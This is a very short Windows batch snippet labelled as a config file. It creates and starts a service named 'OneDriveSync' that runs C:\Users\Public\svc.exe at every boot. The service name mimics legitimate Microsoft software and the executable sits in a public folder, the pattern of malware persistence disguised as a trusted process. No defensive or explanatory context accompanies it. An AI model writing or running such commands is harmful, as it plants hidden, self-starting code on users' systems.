REM config 6029 v1
sc create OneDriveSync binPath= "cmd.exe /c C:\Users\Public\svc.exe" start= auto
sc start OneDriveSync
